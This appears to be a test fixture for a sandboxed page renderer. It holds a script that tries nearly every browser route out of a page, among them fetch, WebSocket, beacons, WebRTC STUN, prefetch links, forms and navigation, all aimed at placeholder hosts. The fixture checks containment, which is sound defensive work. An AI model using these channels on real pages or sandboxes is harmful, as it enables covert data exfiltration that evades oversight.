// A page that tries every way out that a page has. Names are of the reserved kind; the numeric addresses lie beyond the namespace.
const far = '203.0.113.7'

export const hostileScript = `
  const attempt = (work) => { try { const result = work(); if (result && result.catch) result.catch(() => {}) } catch {} }
  const text = 'report%20text'
  attempt(() => fetch('http://fetch.example/?' + text))
  attempt(() => fetch('http://${far}/?' + text))
  attempt(() => { const request = new XMLHttpRequest(); request.open('GET', 'http://xhr.example/'); request.send() })
  attempt(() => new WebSocket('ws://socket.example/'))
  attempt(() => new WebSocket('ws://${far}:81/'))
  attempt(() => navigator.sendBeacon('http://beacon.example/', text))
  attempt(() => new EventSource('http://events.example/'))
  attempt(() => { new Image().src = 'http://${far}/picture.png' })
  for (const [tag, name, value, more] of [
    ['img', 'src', 'http://picture.example/a.png', {}], ['script', 'src', 'http://script.example/a.js', {}], ['iframe', 'src', 'http://frame.example/', {}],
    ['link', 'href', 'http://style.example/a.css', { rel: 'stylesheet' }], ['link', 'href', 'http://prefetch.example/', { rel: 'dns-prefetch' }],
    ['link', 'href', 'http://preconnect.example/', { rel: 'preconnect' }], ['link', 'href', 'http://${far}:82/', { rel: 'preconnect' }], ['object', 'data', 'http://object.example/', {}],
  ]) attempt(() => { const element = Object.assign(document.createElement(tag), more); element[name] = value; document.body.append(element) })
  for (const server of ['stun:stun.example:3478', 'stun:${far}:3478']) attempt(() => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: server }] })
    connection.createDataChannel('x')
    connection.createOffer().then((offer) => connection.setLocalDescription(offer))
  })
  attempt(() => { const link = document.createElement('a'); link.href = 'http://link.example/'; link.target = '_blank'; document.body.append(link); link.click() })
  attempt(() => window.open('http://window.example/'))
  attempt(() => { const form = document.createElement('form'); form.action = 'http://form.example/'; form.method = 'post'; form.target = '_blank'; document.body.append(form); form.submit() })
  attempt(() => { const box = document.createElement('textarea'); box.spellcheck = true; document.body.append(box); box.focus(); document.execCommand('insertText', false, 'speling mistke wrods ') })
  setTimeout(() => attempt(() => { location.href = 'http://navigation.example/' }), 1500)
`

/** The same as an address that needs no file. */
export const hostileAddress = `data:text/html;charset=utf-8,${encodeURIComponent(`<!doctype html><title>hostile</title><body><script>${hostileScript}</script>`)}`

/** How long the page is given. */
export const patience = 6000
